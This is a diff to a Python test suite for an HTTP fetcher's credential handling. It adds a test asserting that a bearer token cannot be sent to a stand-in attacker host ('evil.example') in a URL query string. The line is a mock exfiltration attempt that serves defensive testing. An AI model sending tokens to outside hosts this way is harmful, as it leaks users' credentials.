@@ -377,6 +377,12 @@ async def test_a_login_is_sent_to_its_host_over_tls_only(miniweb: MiniWeb) -> No
     assert all("authorization" not in request.headers for request in wiki.asked("/robots.txt"))
 
 
+async def test_a_login_does_not_leave_in_a_url(miniweb: MiniWeb) -> None:
+    fetcher = miniweb.fetcher(login="wiki.example: Authorization: Bearer t0ken-t0ken")
+    with pytest.raises(LeakBlocked):
+        await fetcher.get("https://evil.example/?t=t0ken-t0ken")
+
+
 async def test_a_login_may_cover_subdomains(miniweb: MiniWeb) -> None:
     site = miniweb.site("a.corp.example")
     site.page("/", "x")
